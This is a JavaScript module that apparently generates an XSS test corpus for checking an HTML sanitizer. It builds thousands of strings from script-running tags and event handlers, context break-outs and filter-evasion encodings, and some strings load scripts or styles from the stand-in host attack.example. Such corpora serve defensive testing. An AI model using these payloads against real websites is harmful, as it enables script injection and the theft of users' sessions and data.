// Attack strings: a few hundred of our own (what to run, in what it is wrapped), each in several encodings. Whatever
// runs sets `window.attacked` or opens a dialog; whatever loads asks another host.
const actions = [
  'alert(1)', 'window.attacked=1', 'prompt(1)', 'fetch("//attack.example/x")',
];

/** Elements and attributes that would run an action. */
const vectors = [
  (js) => `<script>${js}</script>`,
  (js) => `<script src=//attack.example/x.js></script><i title='${js}'>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img src="//attack.example/x.png" onload="${js}">`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><set attributeName=href to="javascript:${js}"></svg>`,
  (js) => `<body onload=${js}>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<a href="javascript:${js}">click</a>`,
  (js) => `<form action="javascript:${js}"><button>go</button></form>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<marquee onstart=${js}>`,
  (js) => `<style>@import "//attack.example/x.css";</style><b title='${js}'>`,
  (js) => `<link rel=stylesheet href=//attack.example/x.css><b title='${js}'>`,
  (js) => `<base href="//attack.example/"><b title='${js}'>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<template><img src=x onerror=${js}></template>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">click</a>`,
  (js) => `<p style="background:url(//attack.example/x.png)" onmouseover=${js}>over</p>`,
  (js) => `<audio src=x onerror=${js}></audio>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
];

/** What an attack breaks out of. */
const contexts = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title>${text}`,
  (text) => `</textarea></select>${text}`,
  (text) => `--><!--${text}`,
  (text) => `]]>${text}<![CDATA[`,
  (text) => `</mark></bdi></p>${text}`,
  (text) => `{{TITLE}}[[skip]]${text}`,
  (text) => `" autofocus onfocus=alert(1) x="${text}`,
];

/** How it may be written. */
const encodings = [
  (text) => text,
  (text) => text.replace(/<(\/?)(\w+)/g, (_, slash, name) => `<${slash}${name.toUpperCase()}`),
  (text) => text.replace(/[<>"']/g, (c) => `&#${c.charCodeAt(0)};`),
  (text) => text.replace(/[<>"']/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`),
  (text) => text.replace(/[<>"']/g, (c) => encodeURIComponent(c)),
  (text) => text.replace(/[<>]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (text) => text.replace(/<(\w)/g, '<\u200b$1').replace(/ on/g, '\u000con'),
  (text) => text.replace(/</g, '<\u202e'),
];

/** Every attack string: vectors by contexts by encodings, the actions in turn. */
export function attackStrings() {
  const strings = [];
  for (const encode of encodings) {
    for (const wrap of contexts) {
      for (const vector of vectors) {
        for (const action of actions.slice(strings.length % 2, strings.length % 2 + 2)) {
          strings.push(encode(wrap(vector(action))));
        }
      }
    }
  }
  return strings;
}
